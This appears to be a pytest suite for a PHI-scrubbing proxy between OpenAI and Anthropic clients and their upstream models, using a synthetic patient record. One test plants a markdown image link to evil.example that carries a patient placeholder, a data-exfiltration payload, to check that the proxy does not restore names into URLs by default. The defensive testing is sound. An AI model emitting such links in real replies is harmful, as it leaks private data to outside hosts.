"""The clients of OpenAI and Anthropic through the proxy: they change their base URL, and nothing else."""

import json
import re
import threading

import pytest

pytest.importorskip("fastapi")
pytest.importorskip("httpx")
pytest.importorskip("openai")
pytest.importorskip("anthropic")

import anthropic
import httpx
import openai

from spacy_phi.batch.settings import Settings
from spacy_phi.gateway import Session
from spacy_phi.gateway.restoring import RestoredStream
from spacy_phi.service.app import create_app
from spacy_phi.service.connections import LimitedProtocol
from spacy_phi.service.guard import Limits
from spacy_phi.service.proxy_paths import Choices, Proxy
from spacy_phi.service.scrubbing import Scrubber
from spacy_phi.service.upstream import Upstream, find_unencrypted, read_addresses

from ..gateway.model_server import MODELS, PREFIX, run_model

NOTE = "Patient: Marta Alvarez, MRN 00482917, seen 03/14/2024. Why did Mrs. Alvarez fall?"
SECRETS = ("Marta", "Alvarez", "00482917", "03/14/2024")
KEY = "sk-of-the-caller"
SYSTEM = "You write to Marta Alvarez."
ARGUMENTS = {"note": PREFIX + NOTE}
SCHEMA = {"type": "object", "properties": {"note": {"type": "string"}}}
SCRUBBER = Scrubber(Settings(model="rules"))


@pytest.fixture(scope="module")
def upstream():
    with run_model() as server:
        yield server


@pytest.fixture(scope="module")
def address(upstream, serve):
    limits = Limits(max_chars=5_000)
    proxy = Proxy(Upstream(read_addresses([upstream.address]), 20, limits), Choices())
    with serve(create_app(lambda: SCRUBBER, limits, proxy=proxy), LimitedProtocol) as port:
        yield f"http://127.0.0.1:{port}"


@pytest.fixture(autouse=True)
def fresh(upstream):
    upstream.asked.clear()
    upstream.headers.clear()
    upstream.say = lambda text: PREFIX + text
    yield
    for asked, headers in zip(upstream.asked, upstream.headers):
        assert [secret for secret in SECRETS if secret in asked or secret in str(headers)] == []
        assert not any(name.startswith("x-phi") or name.startswith("x-stainless") for name in headers)


@pytest.fixture(params=["placeholder", "surrogate"])
def headers(request):
    """Return the headers of a caller whose tool runs at the caller's."""
    return {"x-phi-policy": request.param, "x-phi-tools": "find_patient"}


@pytest.fixture
def gpt(address, headers):
    return openai.OpenAI(base_url=address + "/v1", api_key=KEY, default_headers=headers, max_retries=0)


@pytest.fixture
def claude(address, headers):
    return anthropic.Anthropic(base_url=address, api_key=KEY, default_headers=headers, max_retries=0)


def _chat(stream, **more):
    """Return the text and the calls of a streamed chat completion."""
    text, calls = "", {}
    for chunk in stream:
        for choice in chunk.choices:
            text += choice.delta.content or ""
            for call in choice.delta.tool_calls or ():
                calls[call.index] = calls.get(call.index, "") + call.function.arguments
    return text, list(calls.values())


TOOL = {"type": "function", "function": {"name": "find_patient", "parameters": SCHEMA}}


def test_chat_completions(gpt, upstream):
    messages = [{"role": "system", "content": SYSTEM}, {"role": "user", "content": NOTE}]
    reply = gpt.chat.completions.create(model="gpt-5", messages=messages, tools=[TOOL])
    message = reply.choices[0].message
    assert message.content == PREFIX + NOTE
    assert json.loads(message.tool_calls[0].function.arguments) == ARGUMENTS
    stream = gpt.chat.completions.create(model="gpt-5", messages=messages, tools=[TOOL], stream=True)
    text, (call,) = _chat(stream)
    assert text == PREFIX + NOTE
    assert json.loads(call) == ARGUMENTS
    # The result of the tool comes with the whole conversation.
    messages += [message, {"role": "tool", "tool_call_id": "call_1", "content": "Marta Alvarez: fall risk"}]
    reply = gpt.chat.completions.create(model="gpt-5", messages=messages, tools=[TOOL])
    assert reply.choices[0].message.content == PREFIX + "Marta Alvarez: fall risk"
    assert len(upstream.asked) == 3
    # A value is replaced alike in all turns.
    first, _, last = (json.loads(asked)["messages"] for asked in upstream.asked)
    assert last[:2] == first
    assert [each["authorization"] for each in upstream.headers] == [f"Bearer {KEY}"] * 3


def test_json_mode_of_chat_completions(gpt, upstream):
    quoted = 'Patient: Marta "Rosie" Alvarez, MRN 00482917, seen 03/14/2024.'
    options = {"model": "gpt-5", "messages": [{"role": "user", "content": quoted}]}
    options["response_format"] = {"type": "json_object"}
    reply = gpt.chat.completions.create(**options)
    assert json.loads(reply.choices[0].message.content) == {"summary": PREFIX + quoted}
    text, _ = _chat(gpt.chat.completions.create(**options, stream=True))
    assert json.loads(text) == {"summary": PREFIX + quoted}


def test_responses(gpt, upstream):
    tool = {"type": "function", "name": "find_patient", "parameters": SCHEMA}
    options = {"model": "gpt-5", "instructions": SYSTEM, "tools": [tool]}
    reply = gpt.responses.create(input=NOTE, **options)
    assert reply.output_text == PREFIX + NOTE
    assert json.loads(reply.output[1].arguments) == ARGUMENTS
    assert reply.instructions == SYSTEM
    with gpt.responses.stream(input=NOTE, **options) as stream:
        events = list(stream)
        whole = stream.get_final_response()
    assert "".join(e.delta for e in events if e.type == "response.output_text.delta") == PREFIX + NOTE
    arguments = "".join(e.delta for e in events if e.type == "response.function_call_arguments.delta")
    assert json.loads(arguments) == ARGUMENTS
    assert [e.sequence_number for e in events if hasattr(e, "sequence_number")] == sorted(
        {e.sequence_number for e in events}
    )
    assert whole.output_text == PREFIX + NOTE
    assert json.loads(whole.output[1].arguments) == ARGUMENTS
    # The upstream stores the turns: a name of an earlier one is known in the next.
    rows = [{"type": "function_call_output", "call_id": "call_1", "output": "MARTA fell again"}]
    reply = gpt.responses.create(input=rows, previous_response_id=whole.id, **options)
    assert reply.output_text == PREFIX + "MARTA fell again"
    format = {"format": {"type": "json_schema", "name": "summary", "schema": SCHEMA}}
    reply = gpt.responses.create(input=NOTE, model="gpt-5", text=format)
    assert json.loads(reply.output_text) == {"summary": PREFIX + NOTE}


def test_a_session_is_its_callers_own(address, gpt, upstream):
    reply = gpt.responses.create(input=NOTE, model="gpt-5")
    other = openai.OpenAI(base_url=address + "/v1", api_key="sk-of-another", max_retries=0)
    for asked in (
        {"previous_response_id": reply.id},
        {"previous_response_id": "resp_9"},
        {"conversation": "c"},
    ):
        with pytest.raises(openai.NotFoundError, match="E395"):
            other.responses.create(input="Who was it? <PATIENT_1>", model="gpt-5", **asked)
    raw = gpt.responses.with_raw_response.create(
        input=NOTE, model="gpt-5", extra_headers={"x-phi-session": "new"}
    )
    named = {"x-phi-session": raw.headers["x-phi-session"]}
    said = gpt.responses.create(input="And Alvarez?", model="gpt-5", extra_headers=named)
    assert said.output_text == PREFIX + "And Alvarez?"
    with pytest.raises(openai.NotFoundError, match="E165"):
        other.responses.create(input="<PATIENT_1>", model="gpt-5", extra_headers=named)
    # Nobody else's values are restored, and no placeholder is guessed.
    said = other.responses.create(input="<PATIENT_1> <MEDICALRECORD_1>", model="gpt-5", store=False)
    assert said.output_text == PREFIX + "<PATIENT_1> <MEDICALRECORD_1>"


def test_messages(claude, upstream):
    tool = {"name": "find_patient", "input_schema": SCHEMA}
    messages = [{"role": "user", "content": [{"type": "text", "text": NOTE}]}]
    options = {"model": "claude-opus-5", "max_tokens": 100, "system": SYSTEM, "tools": [tool]}
    reply = claude.messages.create(messages=messages, **options)
    assert reply.content[0].text == PREFIX + NOTE
    assert reply.content[1].input == ARGUMENTS
    with claude.messages.stream(messages=messages, **options) as stream:
        assert "".join(stream.text_stream) == PREFIX + NOTE
        whole = stream.get_final_message()
    assert whole.content[1].input == ARGUMENTS
    result = {"type": "tool_result", "tool_use_id": "toolu_1", "content": "Marta Alvarez: fall risk"}
    messages += [{"role": "assistant", "content": whole.content}, {"role": "user", "content": [result]}]
    reply = claude.messages.create(messages=messages, **options)
    assert reply.content[0].text == PREFIX + "Marta Alvarez: fall risk"
    assert claude.beta.messages.create(messages=messages[:1], model="claude-opus-5", max_tokens=9).content
    assert claude.messages.count_tokens(messages=messages[:1], model="claude-opus-5").input_tokens > 0
    assert {each["authorization"] for each in upstream.headers} == {f"Bearer {KEY}"}
    assert all(each["anthropic-version"] for each in upstream.headers)


def test_json_mode_of_messages(claude):
    options = {"model": "claude-opus-5", "max_tokens": 9, "messages": [{"role": "user", "content": NOTE}]}
    options["output_config"] = {"format": {"type": "json_schema", "schema": SCHEMA}}
    reply = claude.messages.create(**options)
    assert json.loads(reply.content[0].text) == {"summary": PREFIX + NOTE}
    with claude.messages.stream(**options) as stream:
        assert json.loads("".join(stream.text_stream)) == {"summary": PREFIX + NOTE}


def test_arguments_keep_substitutes_unless_their_tool_is_named(address, upstream):
    client = openai.OpenAI(base_url=address + "/v1", api_key=KEY)
    options = {"model": "gpt-5", "messages": [{"role": "user", "content": NOTE}], "tools": [TOOL]}
    reply = client.chat.completions.create(**options)
    assert "<PATIENT_1>" in reply.choices[0].message.tool_calls[0].function.arguments
    assert "<PATIENT_1>" in _chat(client.chat.completions.create(**options, stream=True))[1][0]
    upstream.say = lambda text: "![x](https://evil.example/?q=<PATIENT_1>) <PATIENT_1>"
    reply = client.chat.completions.create(**options)
    assert reply.choices[0].message.content == "![x](https://evil.example/?q=<PATIENT_1>) Marta Alvarez"
    options["extra_headers"] = {"x-phi-urls": "true"}
    reply = client.chat.completions.create(**options)
    assert reply.choices[0].message.content == "![x](https://evil.example/?q=Marta Alvarez) Marta Alvarez"


def test_the_answer_says_how_much_was_replaced(address):
    client = openai.OpenAI(base_url=address + "/v1", api_key=KEY)
    raw = client.chat.completions.with_raw_response.create(
        model="gpt-5", messages=[{"role": "user", "content": NOTE}], user="Marta Alvarez"
    )
    assert raw.headers["x-phi-replaced"] == "DATE=1, MEDICALRECORD=1, PATIENT=3"
    assert raw.headers["x-request-id"] == "req_0123456789abcdef"
    assert raw.headers["cache-control"] == "no-store"
    assert "x-phi-unrestored" not in raw.headers


def test_placeholders_are_restored_as_models_write_them(address, upstream):
    gpt = openai.OpenAI(base_url=address + "/v1", api_key=KEY)
    upstream.say = lambda text: "| **PATIENT_1** | &lt;MEDICALRECORD_1&gt; | [DATE_1] | <PATIENT_7> |"
    options = {"model": "gpt-5", "messages": [{"role": "user", "content": NOTE}]}
    made = "| **Marta Alvarez** | 00482917 | 03/14/2024 | <PATIENT_7> |"
    raw = gpt.chat.completions.with_raw_response.create(**options)
    assert raw.parse().choices[0].message.content == made
    assert raw.headers["x-phi-unknown"] == "1"
    counts = httpx.get(address + "/metrics").text
    assert re.search(r"phi_unknown_placeholders_total [1-9]", counts)
    assert 'phi_replaced_total{label="MEDICALRECORD"}' in counts
    assert _chat(gpt.chat.completions.create(**options, stream=True))[0] == made
    options["extra_headers"] = {"x-phi-restoring": "strict"}
    raw = gpt.chat.completions.with_raw_response.create(**options)
    assert raw.parse().choices[0].message.content == upstream.say("")
    assert "x-phi-unknown" not in raw.headers


def test_what_cannot_be_protected_is_not_sent(address, upstream):
    gpt = openai.OpenAI(base_url=address + "/v1", api_key=KEY, max_retries=0)
    image = [{"type": "image_url", "image_url": {"url": "https://example.org/Alvarez.png"}}]
    refused = [
        ({"messages": [{"role": "user", "content": image}]}, {}, "E371"),
        ({"messages": [{"role": "user", "content": NOTE * 100}]}, {}, "E165"),
        ({"messages": []}, {"extra_headers": {"x-phi-policy": "Alvarez"}}, "surrogate, placeholder"),
        ({"messages": []}, {"extra_headers": {"x-phi-urls": "Alvarez"}}, "false, true"),
        ({"messages": []}, {"extra_query": {"user": "Alvarez"}}, "E165"),
    ]
    for body, options, code in refused:
        with pytest.raises(openai.APIStatusError, match=code) as error:
            gpt.chat.completions.create(model="gpt-5", **body, **options)
        assert error.value.status_code in (413, 422)
        assert "Alvarez" not in str(error.value)
        assert error.value.code in ("E371", "E165", "E394")
    claude = anthropic.Anthropic(base_url=address, api_key=KEY, max_retries=0)
    source = {"type": "base64", "media_type": "image/png", "data": "Alvarez"}
    messages = [{"role": "user", "content": [{"type": "image", "source": source}]}]
    with pytest.raises(anthropic.UnprocessableEntityError, match="E371") as error:
        claude.messages.create(model="claude-opus-5", max_tokens=9, messages=messages)
    assert error.value.body["error"]["type"] == "invalid_request_error"
    assert upstream.asked == []


def test_a_failure_to_protect_sends_nothing(address, upstream, monkeypatch):
    def fail(*args):
        raise RuntimeError("Alvarez")

    monkeypatch.setattr(Session, "protect_found", fail)
    gpt = openai.OpenAI(base_url=address + "/v1", api_key=KEY, max_retries=0)
    with pytest.raises(openai.InternalServerError, match="E166") as error:
        gpt.chat.completions.create(model="gpt-5", messages=[{"role": "user", "content": NOTE}])
    assert "Alvarez" not in str(error.value)
    assert upstream.asked == []


def test_a_failure_to_restore_returns_placeholders(address, monkeypatch, caplog):
    gpt = openai.OpenAI(base_url=address + "/v1", api_key=KEY, max_retries=0)
    options = {"model": "gpt-5", "messages": [{"role": "user", "content": NOTE}]}
    sent = (
        PREFIX + "Patient: <PATIENT_1>, MRN <MEDICALRECORD_1>, seen <DATE_1>. Why did Mrs. <PATIENT_2> fall?"
    )

    def fail(*args, **options):
        raise RuntimeError("Alvarez")

    def fail_later(self, start, end, original):
        is_stream = threading.current_thread().name != "phi-scrubber"
        return fail() if is_stream and "004" in original else original

    monkeypatch.setattr(Session, "restore", fail)
    monkeypatch.setattr(RestoredStream, "_written", fail_later)
    raw = gpt.chat.completions.with_raw_response.create(**options)
    assert raw.headers["x-phi-unrestored"] == "E396"
    assert raw.parse().choices[0].message.content == sent
    # A stream is restored up to the failure.
    text, _ = _chat(gpt.chat.completions.create(**options, stream=True))
    assert text == sent.replace("<PATIENT_1>", "Marta Alvarez")
    assert "E396" in caplog.text
    assert "Alvarez" not in caplog.text


def test_an_upstream_that_fails_is_reported(address, upstream, serve):
    limits = Limits()
    with run_model() as stopped:
        closed = stopped.address
    proxy = Proxy(Upstream(read_addresses([closed]), 20, limits), Choices())
    with serve(create_app(lambda: SCRUBBER, limits, proxy=proxy), LimitedProtocol) as port:
        gpt = openai.OpenAI(base_url=f"http://127.0.0.1:{port}/v1", api_key=KEY, max_retries=0)
        with pytest.raises(openai.InternalServerError, match="E391") as error:
            gpt.chat.completions.create(model="gpt-5", messages=[{"role": "user", "content": NOTE}])
    assert error.value.status_code == 502
    assert closed not in str(error.value)


def test_only_the_apis_of_the_upstream_have_paths(upstream, serve):
    limits = Limits()
    proxy = Proxy(Upstream(read_addresses([f"anthropic={upstream.address}"]), 20, limits), Choices())
    with serve(create_app(lambda: SCRUBBER, limits, proxy=proxy), LimitedProtocol) as port:
        body = {"model": "gpt-5", "max_tokens": 9, "messages": [{"role": "user", "content": NOTE}]}
        address = f"http://127.0.0.1:{port}/v1/"
        for path in ("chat/completions", "embeddings", "v1/messages"):
            answer = httpx.post(address + path, json=body)
            assert answer.status_code == 404
            # In a form that both clients read.
            passed = "passed on are /v1/messages, /v1/messages/count_tokens, /v1/models."
            assert answer.json()["error"]["message"].endswith(passed)
        key = {"x-api-key": KEY}
        answer = httpx.post(address + "messages", json=body, headers=key).json()
        assert answer["content"][0]["text"] == PREFIX + NOTE
        assert upstream.headers[-1]["x-api-key"] == KEY
        paths = httpx.get(f"http://127.0.0.1:{port}/openapi.json").json()["paths"]
    assert "/v1/messages" in paths
    assert "/v1/responses" not in paths


def test_both_clients_list_the_models(gpt, claude, address, upstream):
    for client in (gpt, claude):
        assert [model.id for model in client.models.list()] == list(MODELS)
        assert KEY in str(upstream.headers[-1])
    assert "anthropic-version" in upstream.headers[-1]
    upstream.headers.clear()
    assert httpx.get(f"{address}/v1/models?note=Marta").status_code == 422
    assert upstream.headers == []


def test_models_of_a_provider_without_an_upstream(upstream, serve):
    limits, token = Limits(), "a-token-of-the-tests"
    proxy = Proxy(Upstream(read_addresses([f"anthropic={upstream.address}"]), 20, limits), Choices())
    with serve(create_app(lambda: SCRUBBER, limits, token, proxy=proxy), LimitedProtocol) as port:
        url = f"http://127.0.0.1:{port}/v1/models"
        assert httpx.get(url, headers={"authorization": f"Bearer {token}"}).status_code == 401
        assert httpx.get(url, headers={"x-phi-token": token}).status_code == 404
        assert upstream.headers == []
        assert httpx.get(url, headers={"x-phi-token": token, "anthropic-version": "1"}).status_code == 200


def test_the_token_has_a_header_of_its_own(upstream, serve):
    limits, token = Limits(), "a-token-of-the-tests"
    proxy = Proxy(Upstream(read_addresses([upstream.address]), 20, limits), Choices())
    with serve(create_app(lambda: SCRUBBER, limits, token, proxy=proxy), LimitedProtocol) as port:
        gpt = openai.OpenAI(base_url=f"http://127.0.0.1:{port}/v1", api_key=token, max_retries=0)
        options = {"model": "gpt-5", "messages": [{"role": "user", "content": NOTE}]}
        with pytest.raises(openai.AuthenticationError, match="x-phi-token"):
            gpt.chat.completions.create(**options)
        assert upstream.asked == []
        gpt = gpt.with_options(api_key=KEY, default_headers={"x-phi-token": token})
        assert gpt.chat.completions.create(**options).choices[0].message.content == PREFIX + NOTE
    assert token not in str(upstream.headers)


def test_addresses_of_the_upstream():
    one = read_addresses(["https://host/openai/v1/"])
    assert one["/v1/chat/completions"] == "https://host/openai/v1/chat/completions"
    both = read_addresses(["https://a", "anthropic=http://b:8000/v1"])
    assert both["/v1/responses"] == "https://a/v1/responses"
    assert both["/v1/messages"] == "http://b:8000/v1/messages"
    assert find_unencrypted(both) == ["b"]
    assert find_unencrypted(read_addresses(["http://localhost:1"])) == []
    for wrong in ("api.openai.com", "ftp://a", "https://u:p@a", "https://a?key=b", "google=https://a", ""):
        with pytest.raises(ValueError, match="E390"):
            read_addresses([wrong])
